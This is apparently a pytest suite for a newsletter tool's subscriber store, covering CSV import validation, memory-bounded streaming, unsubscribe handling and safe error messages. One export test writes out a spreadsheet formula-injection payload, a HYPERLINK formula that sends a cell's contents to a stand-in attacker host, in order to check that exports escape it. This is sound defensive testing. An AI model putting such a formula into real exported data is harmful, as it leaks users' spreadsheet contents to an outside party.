"""The subscriber store and its commands: validation, CSV import, removal that sticks, migrations."""

from __future__ import annotations

import contextlib
import csv as csv_module
import io
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from delivery_support import digest, write_project
from sqlalchemy import inspect

from digest.config import load_config
from digest.store import current_revision, head_revision, open_store
from digest.store import subscribers as subs


@pytest.fixture
def project(make_project) -> Path:
    return make_project()


def store_of(project: Path):
    return open_store(load_config(project / "digest.toml"))


def test_schema_is_created_on_first_use_and_versioned(project):
    store = store_of(project)
    assert current_revision(store) == head_revision()
    tables = set(inspect(store.engine).get_table_names())
    assert {"subscribers", "issues", "deliveries", "workers", "alembic_version"} <= tables
    uniques = inspect(store.engine).get_unique_constraints("deliveries")
    assert any(set(u["column_names"]) == {"issue_id", "subscriber_id"} for u in uniques)


@pytest.mark.slow
def test_add_validates_and_normalises(project):
    ok = digest(project, "subscribers", "add", "  Reader@Example.COM ", "--name", "A Reader")
    assert ok.returncode == 0 and "added reader@example.com (active)" in ok.stdout
    again = digest(project, "subscribers", "add", "reader@example.com")
    assert again.returncode == 0 and "already active" in again.stdout
    bad = digest(project, "subscribers", "add", "not-an-address")
    assert bad.returncode == 1
    assert "'not-an-address' is not a valid email address" in bad.stderr
    assert "Traceback" not in bad.stderr


def test_an_international_domain_is_stored_in_the_ascii_form_smtp_servers_accept(project):
    store = store_of(project)
    added, created = subs.add(store, "Leser@Bücher.Example")
    assert created and added.email == "leser@xn--bcher-kva.example"
    assert subs.get(store, "leser@bücher.example").id == added.id  # either spelling finds the one row
    utf8 = digest(project, "subscribers", "add", "Lëser@Bücher.example")  # a non-ASCII mailbox: sent over SMTPUTF8
    assert utf8.returncode == 0 and "added lëser@xn--bcher-kva.example (active)" in utf8.stdout


@pytest.mark.slow
def test_remove_keeps_the_row_and_no_import_brings_them_back(project, tmp_path):
    digest(project, "subscribers", "add", "gone@example.com", check=True)
    removed = digest(project, "subscribers", "remove", "gone@example.com", check=True)
    assert "gone@example.com is unsubscribed" in removed.stdout
    csv = tmp_path / "list.csv"
    csv.write_text("email,name\ngone@example.com,Gone\nnew@example.com,New\n")
    result = digest(project, "subscribers", "import", str(csv), check=True)
    assert "imported 1 new, 1 already on the list, 0 rejected" in result.stdout
    store = store_of(project)
    assert subs.get(store, "gone@example.com").status == "unsubscribed"
    refused = digest(project, "subscribers", "add", "gone@example.com")
    assert refused.returncode == 1 and "unsubscribed" in refused.stderr
    unknown = digest(project, "subscribers", "remove", "nobody@example.com")
    assert unknown.returncode == 1 and "not on the list" in unknown.stderr


@pytest.mark.slow
def test_import_reports_bad_rows_with_line_numbers_and_imports_the_rest(project, tmp_path):
    csv = tmp_path / "list.csv"
    csv.write_text(
        "Name,Email,Signed up\n"
        "Ann,ann@example.com,2020\n"
        "Bob,bob@,2021\n"
        "Cy,,2022\n"
        "Dee,dee@example.com,2023\n"
        "Ann again,ANN@example.com,2024\n"
    )
    result = digest(project, "subscribers", "import", str(csv))
    assert result.returncode == 0
    assert f"{csv}:3: skipped: 'bob@' is not a valid email address" in result.stderr
    assert f"{csv}:4: skipped: empty email" in result.stderr
    assert f"{csv}:6: skipped: ann@example.com is already on line 2" in result.stderr  # a duplicate says so
    assert "imported 2 new, 0 already on the list, 3 rejected" in result.stdout
    listing = digest(project, "subscribers", "list", "--status", "active", check=True).stdout
    assert "ann@example.com\tactive\tAnn" in listing and "dee@example.com" in listing
    second = digest(project, "subscribers", "import", str(csv), check=True)
    assert "imported 0 new, 2 already on the list" in second.stdout


def test_import_without_an_email_column_is_a_clear_error(project, tmp_path):
    csv = tmp_path / "list.csv"
    csv.write_text("name,address\nAnn,ann@example.com\n")
    result = digest(project, "subscribers", "import", str(csv))
    assert result.returncode == 1
    assert f"{csv}:line 1: no 'email' column in the header (found: name, address)" in result.stderr


def test_import_pending_and_export_round_trip(project, tmp_path):
    csv = tmp_path / "list.csv"
    csv.write_text("email\nx@example.com\ny@example.com\n")
    digest(project, "subscribers", "import", "--pending", str(csv), check=True)
    exported = digest(project, "subscribers", "export", check=True).stdout.splitlines()
    assert exported[0].startswith("email,name,status")
    assert exported[1].startswith("x@example.com,,pending")
    assert len(exported) == 3


def test_a_bounced_subscriber_is_never_reactivated_by_import(project, tmp_path):
    store = store_of(project)
    sub, _ = subs.add(store, "b@example.com")
    subs.set_status(store, sub.id, subs.SubscriberStatus.BOUNCED)
    csv = tmp_path / "list.csv"
    csv.write_text("email\nb@example.com\n")
    digest(project, "subscribers", "import", str(csv), check=True)
    assert subs.get(store, "b@example.com").status == "bounced"


def test_iterate_pages_through_a_large_list(project):
    store = store_of(project)
    subs.import_csv(store, "email\n" + "".join(f"r{n}@example.com\n" for n in range(2500)))
    assert sum(1 for _ in subs.iterate(store, batch=1000)) == 2500
    assert subs.counts(store) == {"active": 2500}


# -- CSV from a clumsy or hostile hand ------------------------------------------------------------


def test_import_reports_every_malformed_row_and_imports_every_good_one(project, tmp_path):
    csv = tmp_path / "list.csv"
    lines = [
        b"email,name",
        b"a@example.com,Ann",  # 2
        b"b@example.com," + b"x" * 200_000,  # 3: longer than csv's own 131,072-character field limit
        b"c@example.com,Cy",  # 4
        b'd@example.com,"Dee unclosed',  # 5: an open quote must not swallow the rows after it
        b"e@example.com,Eve",  # 6
        b'"f@example.com"junk,Fay',  # 7
        b"E@EXAMPLE.COM,Eve again",  # 8: the same address, in capitals
        b"g@example.com,G\xe9rard",  # 9: not UTF-8
        b'h@example.com,"two\rlines"',  # 10
        b"",  # 11: blank lines are not rows
        b"not-an-address,Nobody",  # 12
        b"i@example.com,Ivy",  # 13
    ]
    csv.write_bytes(b"\r\n".join(lines) + b"\r\n")
    result = digest(project, "subscribers", "import", str(csv))
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [
        f"{csv}:3: skipped: row is longer than 100,000 bytes",
        f'{csv}:5: skipped: a quote is not closed on this line (close it, or double a quote inside a field as "")',
        f'{csv}:7: skipped: text after a closing quote (double a quote inside a field as "")',
        f"{csv}:8: skipped: e@example.com is already on line 6",
        f"{csv}:9: skipped: not UTF-8 text (byte 0xe9); save the file as UTF-8",
        f"{csv}:10: skipped: a field contains a line break (a row must fit on one line)",
        f"{csv}:12: skipped: 'not-an-address' is not a valid email address: An email address must have an @-sign.",
    ]
    assert result.stdout == "imported 4 new, 0 already on the list, 7 rejected\n"
    listing = digest(project, "subscribers", "list", check=True).stdout.splitlines()
    assert [row.split("\t")[0] for row in listing] == [
        "a@example.com",
        "c@example.com",
        "e@example.com",
        "i@example.com",
    ]


# VmHWM, not getrusage: ru_maxrss survives exec, so a child would report the forking test process's peak
PEAK_RSS = """
import re, sys
from digest.cli import main
try:
    main(sys.argv[1:])
finally:
    status = open("/proc/self/status").read()
    print("peak-rss-kb", re.search(r"^VmHWM:\\s+(\\d+) kB", status, re.M).group(1), file=sys.stderr)
"""


def import_measured(root: Path, csv: Path) -> tuple[subprocess.CompletedProcess, int]:
    """`digest subscribers import` in a child process, with that process's peak resident memory (KB)."""
    result = subprocess.run(
        [sys.executable, "-c", PEAK_RSS, "subscribers", "import", str(csv)],
        cwd=root, env={**os.environ, "DIGEST_SECRET_KEY": "test-secret"}, capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    peak = int(re.search(r"^peak-rss-kb (\d+)$", result.stderr, re.M).group(1))
    return result, peak


@pytest.mark.slow
def test_a_100000_row_import_with_bad_rows_scattered_through_it_streams_in_bounded_memory(tmp_path):
    root = write_project(tmp_path / "site")
    small = tmp_path / "small.csv"
    small.write_text("email,name\nfirst@example.com,First\n")
    baseline = import_measured(root, small)[1]  # the interpreter, SQLAlchemy and the schema: the floor

    big = tmp_path / "big.csv"
    with big.open("w", newline="") as out:
        out.write("email,name\n")
        for n in range(100_000):
            kind = n % 1000
            if kind == 0:
                out.write(f"r{n}@example.com,{'y' * 150_000}\n")  # too long
            elif kind == 250:
                out.write(f'r{n}@example.com,"Unclosed {n}\n')  # must not swallow r{n+1}
            elif kind == 500:
                out.write(f"R{n - 1}@EXAMPLE.com,Duplicate\n")
            elif kind == 750:
                out.write(f"not-an-address-{n},Nobody\n")
            else:
                out.write(f"r{n}@example.com,Reader {n}\n")
        out.write("z@example.com," + "z" * 40_000_000 + "\n")  # one 40 MB line: reading it whole would show
    result, peak = import_measured(root, big)
    assert result.returncode == 0, result.stderr[-2000:]
    assert "Traceback" not in result.stderr
    assert result.stdout == "imported 99600 new, 0 already on the list, 401 rejected\n"
    skipped = [line for line in result.stderr.splitlines() if ": skipped: " in line]
    assert len(skipped) == 401
    assert f"{big}:252: skipped: a quote is not closed on this line" in result.stderr  # row 250 is line 252
    assert f"{big}:502: skipped: r499@example.com is already on line 501" in result.stderr
    assert f"{big}:100002: skipped: row is longer than 100,000 bytes" in result.stderr
    store = store_of(root)
    assert subs.counts(store) == {"active": 99_601}  # and the baseline's first@example.com
    assert subs.get(store, "r251@example.com").name == "Reader 251"
    # a generous bound: the 55 MB file, or its rows, held in memory at once would pass it
    assert (peak - baseline) < 40_000, (baseline, peak)


@pytest.mark.slow
def test_export_neutralises_cells_a_spreadsheet_would_run(project, tmp_path):
    store = store_of(project)
    subs.add(store, "=1+1@example.com", name='=HYPERLINK("https://evil.example/?leak="&A1,"Click")')
    subs.add(store, "+cmd@example.com", name="-2+3")
    subs.add(store, "plain@example.com", name="@SUM(A1:A9)")
    subs.add(store, "quote@example.com", name="'=already quoted")
    exported = digest(project, "subscribers", "export", check=True).stdout
    rows = list(csv_module.reader(io.StringIO(exported)))[1:]
    assert [row[:2] for row in rows] == [
        ["'=1+1@example.com", '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")'],
        ["'+cmd@example.com", "'-2+3"],
        ["plain@example.com", "'@SUM(A1:A9)"],
        ["quote@example.com", "''=already quoted"],
    ]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)
    # and the export imports back exactly as it was
    again = tmp_path / "again"
    copy = write_project(again)
    (again / "list.csv").write_text(exported)
    digest(copy, "subscribers", "import", "list.csv", check=True)
    restored = {s.email: s.name for s in subs.iterate(store_of(copy))}
    assert restored == {s.email: s.name for s in subs.iterate(store)}


STORE_COMMANDS = [
    ["subscribers", "add", "a@example.com"],
    ["subscribers", "remove", "a@example.com"],
    ["subscribers", "list"],
    ["subscribers", "export"],
    ["subscribers", "import", "list.csv"],
    ["status"],
    ["worker", "--once"],
    ["send", "--dry-run"],
    ["send"],
    ["publish"],
]


@pytest.mark.parametrize("damage", ["random bytes", "a text file", "a cut-off database"])
def test_a_corrupt_database_file_is_a_clear_error_for_every_command(new_project, cli, damage):
    import random

    project = new_project("America/New_York")
    project.copy_shipped()
    (project.root / "list.csv").write_text("email\na@example.com\n")
    database = project.root / "var" / "digest.sqlite"
    database.parent.mkdir()
    if damage == "a cut-off database":  # a real SQLite header, then garbage where the pages were
        with contextlib.closing(sqlite3.connect(database)) as db, db:
            db.execute("CREATE TABLE t (x)")
            db.executemany("INSERT INTO t VALUES (?)", [(b"x" * 500,)] * 200)
        data = database.read_bytes()
        database.write_bytes(data[:100] + random.Random(1).randbytes(len(data) - 100))
    else:
        text = "name,email\nthis is not a database\n" * 50
        database.write_bytes(random.Random(7).randbytes(8192) if damage == "random bytes" else text.encode())
    for command in STORE_COMMANDS:
        result = cli(project.root, *command)
        assert result.code == 1, (command, result.output)
        assert "Traceback" not in result.output, command
        assert result.err.startswith(f"error: database {database}: "), (command, result.err)
        assert "restore it from a backup, or move it aside" in result.err, (command, result.err)


@pytest.mark.slow
@pytest.mark.parametrize("url", ["mysql+nodriver://root:hunter2@db/digest", "hunter2", "postgresql://u:hunter2@[::1"])
def test_a_database_url_digest_cannot_use_is_a_clear_error_without_the_password(new_project, url):
    project = new_project()
    result = digest(project.root, "subscribers", "list", env={"DIGEST_DATABASE_URL": url})
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "is not one digest can use" in result.stderr and "hunter2" not in result.stderr


def test_an_unreachable_database_server_is_a_clear_error_without_the_password(new_project):
    project = new_project()
    result = digest(project.root, "status", env={"DIGEST_DATABASE_URL": "postgresql://u:hunter2@127.0.0.1:1/digest"})
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.startswith("error: database postgresql+psycopg://u:***@127.0.0.1:1/digest: connection failed")
    assert "hunter2" not in result.stderr
